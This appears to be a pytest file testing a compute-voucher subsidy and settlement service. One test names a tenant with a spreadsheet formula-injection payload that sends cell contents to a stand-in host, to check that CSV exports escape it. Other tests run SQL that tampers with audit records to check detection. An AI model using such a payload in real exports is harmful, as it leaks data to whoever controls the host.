"""The voucher programme end to end at the service level: rules, applications and review, grants,
point-of-sale redemption at billing, post-hoc claims, expiry, clawback, freezing, the anti-abuse
rules, prices, and monthly settlement — on a fixed clock, billed by the real billing code."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, text, update
from sqlalchemy.exc import IntegrityError

from suanli.domain.errors import Conflict, Forbidden, InvalidInput, NotFound
from suanli.services import audit, prices, settlement, voucher_reports, vouchers
from suanli.services.context import Platform
from suanli.services.ledger import record_deposit
from suanli.store import models as m

from ..conftest import World
from ..money import bill, books, finished_run, fixed_world, pool_id

QINGDAO = {"credit_code_prefixes": ["913702"], "overrides": [{"domestic": True, "ratio_bp": 3000}],
           "tenant_cap_fen": 50_000}


@pytest.fixture
def fw(platform: Platform) -> World:
    w, _ = fixed_world(platform)
    return w


def programme(w: World, mode: str = "point_of_sale", budget: int = 100_000, **rules: object) -> int:
    data = {**QINGDAO, **rules}
    return int(vouchers.create_programme(w.p, w.admin, name=f"2026 {mode}", year=2026, budget_fen=budget,
                                         mode=mode, rules=data)["id"])


def granted(w: World, prog: int, amount: int, requested: int | None = None) -> int:
    a = vouchers.apply(w.p, w.u2, prog, requested_fen=requested or amount, planned_spend_fen=10**6,
                       planned_use="LLM fine-tuning 大模型微调")
    r = vouchers.review(w.p, w.reviewer, a["id"], decision="approve", approved_fen=amount,
                        reason="" if requested is None else "part of the plan is not AI")
    return int(r["grant_id"])


def pool_is_whole(w: World, prog: int) -> dict[str, int]:
    with w.p.db.session() as s:
        f = vouchers.pool_figures(s, prog)
    assert f["budget_fen"] == f["available_fen"] + f["committed_fen"] + f["paid_fen"]
    assert f["available_fen"] >= 0 and f["committed_fen"] >= 0
    return f


def test_the_point_of_sale_year_apply_review_grant_redeem(fw: World) -> None:
    w = fw
    prog = programme(w)
    view = vouchers.get_programme(w.p, w.u2, prog)
    assert view["rules"]["ratio_bp"] == 2000 and view["available_fen"] == 100_000
    a = vouchers.apply(w.p, w.u2, prog, requested_fen=40_000, planned_spend_fen=200_000,
                       planned_use="training")
    assert a["state"] == "pending"
    r = vouchers.review(w.p, w.reviewer, a["id"], decision="approve", approved_fen=30_000,
                        reason="the plan's inference part is out of scope")
    assert r["state"] == "partly_approved" and r["approved_fen"] == 30_000
    assert pool_is_whole(w, prog)["available_fen"] == 70_000
    # A CPU run (20 %) and an NPU run on a domestic chip (30 %): 4 units for an hour.
    cpu = finished_run(w, w.t2.id, w.alpha, "cpu")  # 4 × 100 fen = 400 fen
    npu = finished_run(w, w.t2.id, w.alpha, "npu")  # 4 × 800 fen = 3,200 fen
    billed = bill(w, cpu, npu)
    assert [(b.amount_fen, b.voucher_fen) for b in billed] == [(400, 80), (3200, 960)]
    assert bill(w, cpu, npu) == []  # a retry bills and redeems nothing more
    b = books(w)
    assert b[f"voucher:{prog}:grant:{r['grant_id']}"] == 30_000 - 1040
    assert b[f"tenant:{w.t2.id}:receivable"] == 3600 - 1040  # the tenant pays the rest
    assert b[f"center:{w.alpha.id}:payable"] == -3600  # the center gets the whole bill
    assert b[f"city:{prog}:receivable"] == 1040
    f = pool_is_whole(w, prog)
    assert (f["paid_fen"], f["committed_fen"]) == (1040, 30_000 - 1040)
    with w.p.db.session() as s:
        reds = list(s.scalars(select(m.VoucherRedemption).order_by(m.VoucherRedemption.id)))
    assert [(x.ratio_bp, x.rules_version) for x in reds] == [(2000, 1), (3000, 1)]


def test_a_grant_is_never_overspent_and_the_cap_holds(fw: World) -> None:
    w = fw
    prog = programme(w)
    grant = granted(w, prog, 500)
    runs = [finished_run(w, w.t2.id, w.alpha, "npu") for _ in range(3)]  # 960 fen of subsidy each
    billed = bill(w, *runs)
    assert [x.voucher_fen for x in billed] == [500, 0, 0]  # the remainder, then nothing
    assert books(w)[f"voucher:{prog}:grant:{grant}"] == 0
    # The tenant cap (50,000 fen) bounds what may be asked for and granted.
    with pytest.raises(InvalidInput, match="tenant cap leaves"):
        vouchers.apply(w.p, w.u2, prog, requested_fen=49_600, planned_spend_fen=10**6, planned_use="x")


def test_the_pool_is_never_over_committed(fw: World) -> None:
    w = fw
    prog = programme(w, budget=10_000, tenant_cap_fen=10**6)
    a = vouchers.apply(w.p, w.u2, prog, requested_fen=12_000, planned_spend_fen=10**6, planned_use="x")
    with pytest.raises(Conflict, match=r"only ¥100\.00 left"):
        vouchers.review(w.p, w.reviewer, a["id"], decision="approve")
    r = vouchers.review(w.p, w.reviewer, a["id"], decision="approve", approved_fen=10_000,
                        reason="what is left of the pool")
    assert r["state"] == "partly_approved"
    assert pool_is_whole(w, prog)["available_fen"] == 0


def test_applications_are_checked_and_reviews_need_reasons(fw: World) -> None:
    w = fw
    prog = programme(w, min_spend_fen=100_000)
    ask = dict(requested_fen=1000, planned_spend_fen=200_000, planned_use="simulation")
    with pytest.raises(Forbidden):
        vouchers.apply(w.p, w.u1, prog, **ask)  # a tenant user, not its admin
    with pytest.raises(InvalidInput, match=r"at least ¥1,000\.00"):
        vouchers.apply(w.p, w.u2, prog, **{**ask, "planned_spend_fen": 99_999})
    with pytest.raises(InvalidInput, match=r"at most ¥600\.00"):
        vouchers.apply(w.p, w.u2, prog, **{**ask, "requested_fen": 60_001})
    with pytest.raises(NotFound):
        vouchers.apply(w.p, w.u2, 999, **ask)
    a = vouchers.apply(w.p, w.u2, prog, **ask)
    with pytest.raises(Conflict, match="still pending"):
        vouchers.apply(w.p, w.u2, prog, **ask)
    with pytest.raises(Forbidden):
        vouchers.review(w.p, w.u2, a["id"], decision="approve")
    with pytest.raises(InvalidInput, match="needs a reason"):
        vouchers.review(w.p, w.reviewer, a["id"], decision="reject")
    with pytest.raises(InvalidInput, match="needs a reason"):
        vouchers.review(w.p, w.reviewer, a["id"], decision="approve", approved_fen=500)
    r = vouchers.review(w.p, w.reviewer, a["id"], decision="reject", reason="no AI use")
    assert r["state"] == "rejected" and r["grant_id"] is None
    with pytest.raises(Conflict, match="already reviewed"):
        vouchers.review(w.p, w.reviewer, a["id"], decision="approve")
    assert [x["id"] for x in vouchers.list_applications(w.p, w.u2)] == [a["id"]]
    with pytest.raises(NotFound):
        vouchers.list_applications(w.p, w.u1, tenant_id=w.t2.id)  # another tenant's


def test_eligibility_rules_are_data_and_versioned(fw: World) -> None:
    w = fw
    prog = programme(w)
    # Tenant One (a Fujian credit code) is not registered in Qingdao.
    other = w._user("t1admin", w.u2.role, tenant_id=w.t1.id)
    with pytest.raises(InvalidInput, match="not eligible"):
        vouchers.apply(w.p, other, prog, requested_fen=100, planned_spend_fen=1000, planned_use="x")
    with pytest.raises(InvalidInput, match="unknown rule 'ratio'"):
        vouchers.update_rules(w.p, w.admin, prog, {"ratio": 0.2})
    v2 = vouchers.update_rules(w.p, w.admin, prog, {**QINGDAO, "ratio_bp": 5000, "overrides": []})
    assert v2["rules_version"] == 2 and [h["version"] for h in v2["rules_history"]] == [1, 2]
    grant = granted(w, prog, 10_000)
    assert grant
    (b,) = bill(w, finished_run(w, w.t2.id, w.beta, "cpu"))  # 4 × 40 = 160 fen at 50 %
    assert b.voucher_fen == 80
    with w.p.db.session() as s:
        assert s.scalar(select(m.VoucherRedemption.rules_version)) == 2


def test_anti_abuse_related_parties_transfer_double_subsidy_expiry_freeze(fw: World) -> None:
    w = fw
    prog = programme(w)
    grant = granted(w, prog, 20_000)
    # Related party: no redemption on a center related to the tenant.
    vouchers.declare_related(w.p, w.u2, w.t2.id, w.beta.id, "beta is our subsidiary 子公司")
    with pytest.raises(Conflict):
        vouchers.declare_related(w.p, w.admin, w.t2.id, w.beta.id, "again")
    with pytest.raises(NotFound):  # another tenant's parties: not found (as when listing them)
        vouchers.declare_related(w.p, w.u1, w.t2.id, w.alpha.id, "not theirs to declare")
    (rel,) = bill(w, finished_run(w, w.t2.id, w.beta, "cpu"))
    assert rel.amount_fen == 160 and rel.voucher_fen == 0
    # Not transferable: another tenant's runs never draw on the grant.
    (other,) = bill(w, finished_run(w, w.t1.id, w.alpha, "cpu"))
    assert other.voucher_fen == 0
    # No double subsidy: one redemption per run, enforced by the database.
    run = finished_run(w, w.t2.id, w.alpha, "cpu")
    bill(w, run)
    with pytest.raises(IntegrityError, match=r"(?i)unique"), w.p.db.session() as s:
        s.add(m.VoucherRedemption(run_id=run.run_id, grant_id=grant, programme_id=prog,
                                  tenant_id=w.t2.id, center_id=w.alpha.id, bill_fen=400, amount_fen=80,
                                  ratio_bp=2000, rules_version=1, at=w.p.clock.now(), clawback_reason=""))
        s.flush()
    # Frozen: no redemption, no application.
    vouchers.freeze(w.p, w.auditor, w.t2.id, "suspected fake usage")  # type: ignore[attr-defined]
    (frozen,) = bill(w, finished_run(w, w.t2.id, w.alpha, "cpu"))
    assert frozen.voucher_fen == 0
    with pytest.raises(Forbidden, match="frozen"):
        vouchers.apply(w.p, w.u2, prog, requested_fen=10, planned_spend_fen=1000, planned_use="x")
    vouchers.freeze(w.p, w.auditor, w.t2.id, "", frozen=False)  # type: ignore[attr-defined]
    (thawed,) = bill(w, finished_run(w, w.t2.id, w.alpha, "cpu"))
    assert thawed.voucher_fen == 80
    # Expiry: the unspent part returns to the pool; later bills redeem nothing.
    later = w.p.clock.now() + timedelta(days=366)
    assert vouchers.expire_grants(w.p, later) == 1
    assert vouchers.expire_grants(w.p, later) == 0
    f = pool_is_whole(w, prog)
    assert f["committed_fen"] == 0 and f["available_fen"] == 100_000 - 160
    w.p.clock.advance(366 * 86400)  # type: ignore[attr-defined]
    (late,) = bill(w, finished_run(w, w.t2.id, w.alpha, "cpu"))
    assert late.voucher_fen == 0
    books(w)


def test_clawback_reverses_and_the_tenant_owes_instead(fw: World) -> None:
    w = fw
    prog = programme(w)
    granted(w, prog, 20_000)
    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"))
    (red,) = vouchers.list_redemptions(w.p, w.auditor)["items"]  # type: ignore[attr-defined]
    owed_before = books(w)[f"tenant:{w.t2.id}:receivable"]
    with pytest.raises(Forbidden):
        vouchers.clawback(w.p, w.reviewer, red["id"], "x")
    out = vouchers.clawback(w.p, w.auditor, red["id"], "the run was a crypto miner")  # type: ignore[attr-defined]
    assert out["clawed_back_at"] is not None
    with pytest.raises(Conflict):
        vouchers.clawback(w.p, w.auditor, red["id"], "again")  # type: ignore[attr-defined]
    b = books(w)
    assert b[f"tenant:{w.t2.id}:receivable"] == owed_before + 960
    assert b[f"city:{prog}:receivable"] == 0 and b[f"voucher:{prog}:paid"] == 0
    assert pool_is_whole(w, prog)["available_fen"] == 100_000 - 20_000 + 960


def test_post_hoc_claims_subsidise_a_finished_period_once(fw: World) -> None:
    w = fw
    prog = programme(w, mode="post_hoc")
    grant = granted(w, prog, 20_000)
    march = [finished_run(w, w.t2.id, w.alpha, "cpu"), finished_run(w, w.t2.id, w.alpha, "npu")]
    billed = bill(w, *march)
    assert [b.voucher_fen for b in billed] == [0, 0]  # nothing at billing time
    with pytest.raises(Conflict, match="not ended"):
        vouchers.claim(w.p, w.u2, grant, "2026-03")
    w.p.clock.advance(31 * 86400)  # type: ignore[attr-defined]
    with pytest.raises(InvalidInput, match="period"):
        vouchers.claim(w.p, w.u2, grant, "2026-13")
    c = vouchers.claim(w.p, w.u2, grant, "2026-03")
    assert (c["runs"], c["fees_fen"], c["amount_fen"]) == (2, 3600, 80 + 960)
    with pytest.raises(Conflict, match="already claimed"):
        vouchers.claim(w.p, w.u2, grant, "2026-03")
    with pytest.raises(NotFound):  # a grant is its tenant's alone
        vouchers.claim(w.p, w._user("t1a", w.u2.role, tenant_id=w.t1.id), grant, "2026-03")
    b = books(w)
    assert b[f"tenant:{w.t2.id}:prepaid"] == -1040  # paid out as prepaid credit
    assert pool_is_whole(w, prog)["paid_fen"] == 1040


def test_prices_are_versioned_and_runs_pay_the_price_at_their_start(fw: World) -> None:
    w = fw
    cpu = pool_id(w, w.alpha, "cpu")
    now = w.p.clock.now()
    prices.set_price(w.p, w.op_alpha, cpu, 250, now + timedelta(days=1), "winter tariff")
    with pytest.raises(InvalidInput, match="past"):
        prices.set_price(w.p, w.admin, cpu, 300, now - timedelta(days=1))
    beta_cpu = pool_id(w, w.beta, "cpu")
    with pytest.raises(NotFound):
        prices.set_price(w.p, w.op_alpha, beta_cpu, 1)  # another center's pool is not its to see
    assert [v["price_fen_per_unit_hour"] for v in prices.list_prices(w.p, w.u1, cpu)] == [100, 250]
    before = finished_run(w, w.t1.id, w.alpha, "cpu", start=now)
    after = finished_run(w, w.t1.id, w.alpha, "cpu", start=now + timedelta(days=1, hours=1))
    w.p.clock.advance(3 * 86400)  # type: ignore[attr-defined]
    assert [b.amount_fen for b in bill(w, before, after)] == [400, 1000]
    with w.p.db.session() as s:
        assert prices.sync_current(s, w.p.clock.now()) == 1
        assert s.get(m.Pool, cpu).price_fen_per_unit_hour == 250  # type: ignore[union-attr]


def test_a_job_is_never_billed_beyond_its_budget_across_attempts(fw: World) -> None:
    w = fw
    first = finished_run(w, w.t1.id, w.alpha, "npu", budget_fen=5000)  # 3,200 fen
    second = finished_run(w, w.t1.id, w.alpha, "npu", budget_fen=5000, job_id=first.job_id)
    assert [b.amount_fen for b in bill(w, first, second)] == [3200, 1800]
    books(w)


def test_monthly_settlement_statements_invoices_and_city_payment(fw: World, tmp_path: Path) -> None:
    w = fw
    prog = programme(w)
    granted(w, prog, 20_000)
    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"), finished_run(w, w.t2.id, w.beta, "cpu"),
         finished_run(w, w.t1.id, w.alpha, "cpu"))
    with pytest.raises(Conflict, match="not over"):
        settlement.settle(w.p, w.admin, "2026-03")
    with pytest.raises(InvalidInput):
        settlement.settle(w.p, w.admin, "March")
    w.p.clock.advance(31 * 86400)  # type: ignore[attr-defined]
    with pytest.raises(Forbidden):
        settlement.settle(w.p, w.u2, "2026-03")
    out = settlement.settle(w.p, w.admin, "2026-03")
    by = {(i["party"], i["party_id"]): i for i in out["items"]}
    alpha, beta = by[("center", w.alpha.id)], by[("center", w.beta.id)]
    assert (alpha["runs"], alpha["gross_fen"], alpha["voucher_fen"]) == (2, 3600, 960)
    assert (beta["runs"], beta["gross_fen"], beta["voucher_fen"]) == (1, 160, 32)
    inv = by[("tenant", w.t2.id)]
    assert (inv["gross_fen"], inv["voucher_fen"], inv["net_fen"]) == (3360, 992, 3360 - 992)
    assert by[("city", prog)]["net_fen"] == 992
    assert settlement.settle(w.p, w.admin, "2026-03") == out  # idempotent
    b = books(w)
    assert b[f"center:{w.alpha.id}:payable"] == 0 and b[f"city:{prog}:receivable"] == 0
    # A tenant sees its own invoice only; CSV for the books.
    mine = settlement.statements(w.p, w.u2, "2026-03")["items"]
    assert [(i["party"], i["party_id"]) for i in mine] == [("tenant", w.t2.id)]
    csv_text = settlement.to_csv(out["items"])
    assert csv_text.splitlines()[0].startswith("month,party,party_id,name,runs,unit_hours")


def test_a_tenant_named_as_a_formula_is_text_in_every_csv_export(fw: World) -> None:
    """An attacker names its tenant `=HYPERLINK(…)`: the settlement sheet and the voucher report
    the city opens in a spreadsheet show that name as text, not as a live formula."""
    w = fw
    evil = '=HYPERLINK("http://evil.example/x?"&A1,"发票")'
    with w.p.db.session() as s:
        s.execute(update(m.Tenant).where(m.Tenant.id == w.t2.id).values(name=evil))
    prog = programme(w)
    granted(w, prog, 20_000)
    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"))
    w.p.clock.advance(31 * 86400)  # type: ignore[attr-defined]
    out = settlement.settle(w.p, w.admin, "2026-03")
    assert any(i["name"] == evil for i in out["items"])  # the JSON keeps the name as it is
    report = voucher_reports.report(w.p, w.admin, prog, by="tenant")
    assert [r["key"] for r in report["rows"]] == [evil]
    for exported in (settlement.to_csv(out["items"]), voucher_reports.to_csv(report)):
        cells = [c for row in csv.reader(io.StringIO(exported, newline="")) for c in row]
        assert "'" + evil in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@")]
        # amounts stay numbers: a negative adjustment is not escaped
        assert all(c.lstrip("-").replace(".", "", 1).isdigit() or not c.startswith("-")
                   for c in cells)


def test_bills_month_by_month_agree_with_the_settled_invoice(fw: World) -> None:
    w = fw
    prog = programme(w)
    granted(w, prog, 20_000)
    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"), finished_run(w, w.t2.id, w.beta, "cpu"),
         finished_run(w, w.t1.id, w.alpha, "cpu"))
    so_far = settlement.history(w.p, w.u2)
    assert so_far["party"] == "tenant" and so_far["party_id"] == w.t2.id
    [march] = so_far["items"]  # the month so far, not settled yet
    assert march["month"] == "2026-03" and not march["settled"]
    w.p.clock.advance(31 * 86400)  # type: ignore[attr-defined]
    settlement.settle(w.p, w.admin, "2026-03")
    after = settlement.history(w.p, w.u2)["items"]
    assert [(i["month"], i["settled"]) for i in after] == [("2026-04", False), ("2026-03", True)]
    assert after[0]["runs"] == 0 and after[0]["net_fen"] == 0  # this month: nothing yet
    settled = {k: v for k, v in after[1].items() if k not in ("settled", "ledger_tx_id", "created_at")}
    assert settled == {k: v for k, v in march.items() if k not in ("settled", "ledger_tx_id", "created_at")}
    assert (march["gross_fen"], march["voucher_fen"], march["net_fen"]) == (3360, 992, 3360 - 992)
    # A center operator sees its center's statements; the platform reads /settlements instead.
    ops = settlement.history(w.p, w.op_alpha, months=3)["items"]
    assert [(i["party_id"], i["runs"], i["gross_fen"], i["settled"]) for i in ops] == [
        (w.alpha.id, 0, 0, False), (w.alpha.id, 2, 3600, True)]
    with pytest.raises(Forbidden):
        settlement.history(w.p, w.admin)
    with pytest.raises(InvalidInput):
        settlement.history(w.p, w.u2, months=0)


def test_audit_verify_names_the_first_edited_or_deleted_entry(fw: World) -> None:
    w = fw
    prog = programme(w)
    granted(w, prog, 20_000)
    bill(w, finished_run(w, w.t2.id, w.alpha, "npu"))
    record_deposit(w.p, w.admin, w.t2.id, 1000, "wire-7")
    books(w)
    with w.p.db.session() as s:
        n = audit.verify(s).entries
    assert n >= 6
    engine = w.p.db.engine
    with engine.begin() as c:  # someone edits an entry's details directly in the database
        c.execute(text("UPDATE audit_log SET details = '{\"amount_fen\": 1}' WHERE id = 3"))
    with w.p.db.session() as s:
        v = audit.verify(s)
    assert not v.ok and v.problems[0].startswith("entry 3 ") and "edited" in v.problems[0]


@pytest.mark.parametrize("tamper, expect", [
    ("DELETE FROM audit_log WHERE id = 2", "entry 2 is missing"),
    ("DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)", "deleted"),
    ("UPDATE ledger_postings SET amount_fen = amount_fen + 1 WHERE id = 1", "does not sum to 0"),
    ("UPDATE ledger_postings SET amount_fen = amount_fen * 2 WHERE transaction_id = 1",
     "differs from its audit entry"),  # still balanced, but not what was posted
    ("DELETE FROM ledger_postings WHERE transaction_id = 2", "differs from its audit entry"),
    # postings have no foreign keys: an orphan is named
    ("DELETE FROM ledger_transactions WHERE id = 2", "one of which no longer exists"),
    ("UPDATE ledger_postings SET account_id = 999999 WHERE id = 1", "one of which no longer exists"),
])
def test_audit_verify_catches_deletions_and_ledger_edits(fw: World, tamper: str, expect: str) -> None:
    w = fw
    programme(w)
    record_deposit(w.p, w.admin, w.t2.id, 1000, "wire-8")
    with w.p.db.engine.begin() as c:
        c.execute(text(tamper))
    with w.p.db.session() as s:
        v = audit.verify(s)
    assert not v.ok and any(expect in p for p in v.problems), v.problems


def test_programme_validation(fw: World) -> None:
    w = fw
    with pytest.raises(Forbidden):
        vouchers.create_programme(w.p, w.u2, name="x", year=2026)
    with pytest.raises(InvalidInput, match="mode"):
        vouchers.create_programme(w.p, w.admin, name="x", year=2026, mode="cash")
    with pytest.raises(InvalidInput, match="ratio_bp"):
        vouchers.create_programme(w.p, w.admin, name="x", year=2026, rules={"ratio_bp": 20000})
    p1 = vouchers.create_programme(w.p, w.admin, name="2026 算力券", year=2026)
    assert p1["budget_fen"] == 2_000_000_000 and p1["rules"]["tenant_cap_fen"] == 100_000_000
    assert p1["ends_at"] == datetime(2027, 1, 1, tzinfo=UTC)
    with pytest.raises(Conflict):
        vouchers.create_programme(w.p, w.admin, name="2026 算力券", year=2026)


def test_programme_dates_are_bounded(fw: World) -> None:
    w = fw
    from datetime import UTC as utc

    with pytest.raises(InvalidInput, match="between the years 2000 and 2999"):
        vouchers.create_programme(w.p, w.admin, name="x", year=2026,
                                  ends_at=datetime(9999, 12, 31, tzinfo=utc))
    with pytest.raises(InvalidInput, match="after starts_at"):
        vouchers.create_programme(w.p, w.admin, name="x", year=2026,
                                  ends_at=datetime(2025, 1, 1, tzinfo=utc))


def test_admission_holds_each_jobs_estimate_until_it_is_billed(fw: World) -> None:
    from suanli.domain.enums import DeviceKind
    from suanli.domain.errors import PaymentRequired
    from suanli.services import jobs as jobsvc
    from suanli.services.jobs import JobInput
    from suanli.services.ledger import set_credit_limit, tenant_account

    w = fw
    set_credit_limit(w.p, w.admin, w.t1.id, 10_000)
    # 4 NPUs for an hour and the local executor's grace past it (10 s + 1 s): the priciest pool
    # that can run it is 800 fen per unit-hour.
    hold = -(-4 * (3600 + 11) * 800 // 3600)
    assert hold == 3210
    ask = JobInput(name="n", command=["true"], device=DeviceKind.NPU, units=4, walltime_s=3600)
    job = jobsvc.submit_job(w.p, w.u1, ask)
    acct = tenant_account(w.p, w.u1, w.t1.id)
    assert (acct["held_fen"], acct["spendable_fen"]) == (hold, 10_000 - hold)
    jobsvc.submit_job(w.p, w.u1, ask)
    jobsvc.submit_job(w.p, w.u1, ask)
    with pytest.raises(PaymentRequired, match=r"may cost up to ¥32\.10 .* can commit only ¥3\.70"):
        jobsvc.submit_job(w.p, w.u1, ask)
    # Half an hour billed: that part is owed now, and no longer held.
    bill(w, finished_run(w, w.t1.id, w.alpha, "npu", seconds=1800, job_id=job.id))
    acct = tenant_account(w.p, w.u1, w.t1.id)
    assert (acct["owed_fen"], acct["held_fen"]) == (1600, 3 * hold - 1600)
    assert acct["spendable_fen"] == 10_000 - 1600 - (3 * hold - 1600)
    # A job that ends frees what it still held; the tenant's counter is its unfinished jobs' sum.
    jobsvc.cancel_job(w.p, w.u1, job.id)
    acct = tenant_account(w.p, w.u1, w.t1.id)
    assert acct["held_fen"] == 2 * hold
    with w.p.db.session() as s:
        unfinished = s.scalar(select(func.sum(m.Job.hold_fen)).where(
            m.Job.tenant_id == w.t1.id, m.Job.state.in_(["QUEUED", "PLACED", "RUNNING"])))
        assert s.get(m.Tenant, w.t1.id).held_fen == unfinished == 2 * hold  # type: ignore[union-attr]
        assert s.get(m.Job, job.id).hold_fen == 0  # type: ignore[union-attr]


def test_a_programme_pays_for_peer_platforms_only_when_its_rules_say() -> None:
    """Federation: the city's vouchers pay for the city's own compute; a peer platform's center
    only when the rules name it (`centers`) or allow peers (`peers`); `exclude_centers` wins."""
    from suanli.vouchers import Rules
    from suanli.vouchers.rules import RulesError

    default = Rules.from_dict({})
    assert default.center_allowed("qd-ai") and not default.center_allowed("yantai", peer=True)
    assert Rules.from_dict({"peers": True}).center_allowed("yantai", peer=True)
    listed = Rules.from_dict({"centers": ["qd-ai", "yantai"]})
    assert listed.center_allowed("yantai", peer=True) and not listed.center_allowed("qd-sc")
    out = Rules.from_dict({"peers": True, "exclude_centers": ["yantai", "qd-sc"]})
    assert not out.center_allowed("yantai", peer=True) and not out.center_allowed("qd-sc")
    assert out.center_allowed("weihai", peer=True) and out.center_allowed("qd-ai")
    assert Rules.from_dict(out.to_dict()) == out
    with pytest.raises(RulesError, match="peers"):
        Rules.from_dict({"peers": "yes"})
